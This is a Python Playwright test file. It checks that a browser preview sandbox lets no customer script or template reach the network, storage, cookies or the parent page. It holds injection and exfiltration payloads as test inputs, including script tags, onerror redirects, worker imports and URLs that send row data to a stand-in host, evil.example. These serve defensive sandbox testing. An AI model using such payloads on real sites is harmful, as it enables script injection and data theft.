"""The preview in a real browser: what it makes, and that the customer's script reaches nothing from it."""

from collections.abc import AsyncIterator
from typing import Any

import pytest
from playwright.async_api import Browser, Page, Route, expect
from starlette.responses import Response
from starlette.types import Receive, Scope, Send

from devstack.processes import LOOPBACK
from tests.config.builders import Config
from tests.config.errors.site import Site, on_a_port
from tests.support.browser import browser

__all__ = ["browser"]

# As the app's page is: another origin around it, with the policy of the installer's entry page.
AROUND = """
<!doctype html><title>An app's page</title><script>
  window.secret = "of the page";
  window.told = [];
  addEventListener("message", ({ data }) => told.push(data));
</script><iframe sandbox="allow-scripts" src="%(url)s/screens/preview.html"></iframe>
"""
ROWS = '[{"month": "January", "sum": 120}, {"month": "<b>", "sum": 95}]'
TABLE = "{% for row in rows %}<p>{{ row.month }} {{ row.sum }}</p>{% endfor %}"


@pytest.fixture
def seen() -> list[str]:
    """The paths that config was asked for."""
    return []


@pytest.fixture
async def site(config: Config, browser: Browser, seen: list[str]) -> AsyncIterator[Site]:
    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        seen.append(scope["path"])
        if scope["path"] != "/around":
            await config.app(scope, receive, send)
            return
        url = f"http://{LOOPBACK}:{scope['server'][1]}"
        policy = {"content-security-policy": f"frame-src {url}/screens/preview.html"}
        around = Response(AROUND % {"url": url}, media_type="text/html", headers=policy)
        await around(scope, receive, send)

    async with on_a_port(app, browser) as site:
        yield site


@pytest.fixture
async def page(site: Site) -> Page:
    page = await site.page()
    page.set_default_timeout(5_000)
    await page.goto(f"{site.url.replace(LOOPBACK, 'localhost')}/around")
    await page.wait_for_function("told.some((each) => each.ready)")
    return page


async def make(page: Page, **given: str) -> dict[str, Any]:
    """Have the preview make something, and return what it says of it."""
    asked = {"id": 7, "rows": ROWS, "converter": "", "template": TABLE, "dark": False, **given}
    await page.evaluate(
        """(asked) => {
          told.length = 0;
          frames[0].postMessage(asked, "*");
        }""",
        asked,
    )
    found = await page.wait_for_function("told.find(({ id }) => id === 7)")
    told: dict[str, Any] = await found.json_value()
    return told


async def test_rows_are_converted_and_shown_by_a_template(page: Page) -> None:
    assert await make(page) == {"id": 7, "trouble": "", "message": ""}
    result = page.frame_locator("iframe").frame_locator("iframe")
    await expect(result.locator("p")).to_have_text(["January 120", "<b> 95"])

    for converter in (
        "rows.filter(({ sum }) => sum < 100)",
        "const few = rows.slice(1);\nreturn few; // the rest",
        "rows.slice(1) // the rest",
    ):
        assert (await make(page, converter=converter))["trouble"] == ""
        await expect(result.locator("p")).to_have_text(["<b> 95"])


WRONG: list[tuple[dict[str, str], str, str]] = [
    ({"rows": "{"}, "rows", ""),
    ({"rows": "{}"}, "rows", ""),
    ({"converter": "rows.map("}, "converter", "Unexpected"),
    ({"converter": "rows.a.b"}, "converter", "Cannot read properties of undefined"),
    ({"converter": "3"}, "result", ""),
    ({"template": "{% for %}"}, "template", "Line 1"),
    ({"template": "{{ missing() }}"}, "template", "missing"),
    ({"template": "{% include 'other' %}"}, "template", "template not found"),
    ({"converter": "while (true);"}, "slow", ""),
    ({"converter": "new Promise(() => {})"}, "result", ""),
    ({"template": "{% for a in range(0, 60000) %}0123456789{% endfor %}"}, "large", ""),
]


async def test_what_goes_wrong_is_said_and_the_next_one_works(page: Page) -> None:
    for given, trouble, message in WRONG:
        told = await make(page, **given)
        assert told["trouble"] == trouble, given
        assert message in told["message"]
        assert len(told["message"]) <= 300
    assert (await make(page))["trouble"] == ""


TRIES = {
    "network": "fetch(`${US}/livez`)",
    "network by request": (
        "new Promise((done, fail) => { const asked = new XMLHttpRequest();"
        " asked.open('GET', `${US}/livez`); asked.onload = done; asked.onerror = fail; asked.send(); })"
    ),
    "socket": (
        "new Promise((done, fail) => { const socket = new WebSocket('ws://127.0.0.1:9');"
        " socket.onopen = done; socket.onerror = fail; })"
    ),
    "events": (
        "new Promise((done, fail) => { const events = new EventSource(`${US}/livez`);"
        " events.onopen = done; events.onerror = fail; })"
    ),
    "scripts": "importScripts('https://evil.example/a.js')",
    "a module": "import('https://evil.example/a.js')",
    "another worker": (
        "new Promise((done, fail) => { const other = new Worker('https://evil.example/a.js');"
        " other.onmessage = done; other.onerror = fail; })"
    ),
    "database": (
        "new Promise((done, fail) => { const opened = indexedDB.open('a');"
        " opened.onsuccess = done; opened.onerror = fail; })"
    ),
    "caches": "caches.open('a')",
    "files": "navigator.storage.getDirectory()",
    "storage": "localStorage.length",
    "cookies": "document.cookie",
    "the page": "parent.secret",
    "the address": "top.location.href",
}


async def test_a_script_of_the_preview_reaches_nothing(
    page: Page, site: Site, seen: list[str]
) -> None:
    for name, script in TRIES.items():
        # A worker as the preview starts it, but left alive, so that it can tell what became of it.
        told = await page.frames[1].evaluate(
            """(script) => new Promise((resolve) => {
              const program = new Blob([script], { type: "text/javascript" });
              new Worker(URL.createObjectURL(program)).onmessage = ({ data }) => resolve(data);
            })""",
            f"""
              const US = {site.url!r};
              (async () => {script})().then(
                () => postMessage("reached"),
                (error) => postMessage(`refused: ${{error?.name ?? error?.type}}`),
              );
            """,
        )
        assert told.startswith("refused"), (name, told)
    assert "/livez" not in seen


async def test_a_converter_sends_nothing_before_it_is_stopped(
    page: Page, site: Site, seen: list[str]
) -> None:
    for script in (
        f"fetch('{site.url}/livez'), rows",
        f"navigator.sendBeacon?.('{site.url}/livez'); return rows",
        f"const asked = new XMLHttpRequest(); asked.open('GET', '{site.url}/livez', false); asked.send()",
    ):
        await make(page, converter=script)
    assert (await make(page))["trouble"] == ""
    assert "/livez" not in seen


EVIL = "https://evil.example/?rows={{ rows | dump }}"


async def test_what_a_template_makes_loads_nothing_runs_nothing_and_leads_nowhere(
    page: Page,
) -> None:
    asked: list[str] = []

    async def note(route: Route) -> None:
        asked.append(route.request.url)
        await route.abort()

    await page.context.route("https://evil.example/**", note)
    here = page.url
    template = f"""
      <script>parent.parent.postMessage({{ id: 7, trouble: "ran" }}, "*")</script>
      <img src="{EVIL}" onerror="top.location = 'https://evil.example'">
      <link rel="stylesheet" href="{EVIL}"><style>@import url("{EVIL}"); p {{ background: url("{EVIL}") }}</style>
      <iframe src="{EVIL}"></iframe><object data="{EVIL}"></object><video src="{EVIL}"></video>
      <meta http-equiv="refresh" content="0;url={EVIL}">
      <form action="{EVIL}" target="_top"><button>Send</button></form>
      <a id="top" href="{EVIL}" target="_top">Top</a> <a id="new" href="{EVIL}" target="_blank">New</a>
      <a id="self" href="{EVIL}">Self</a> <p>There</p>
    """
    assert (await make(page, template=template))["trouble"] == ""
    result = page.frame_locator("iframe").frame_locator("iframe")
    await expect(result.locator("p")).to_have_text("There")
    for each in ("button", "#top", "#new", "#self"):
        await result.locator(each).click()
    # All of that has had its time when the preview has answered once more.
    assert (await make(page))["trouble"] == ""
    assert page.url == here
    assert len(page.context.pages) == 1
    assert asked == []
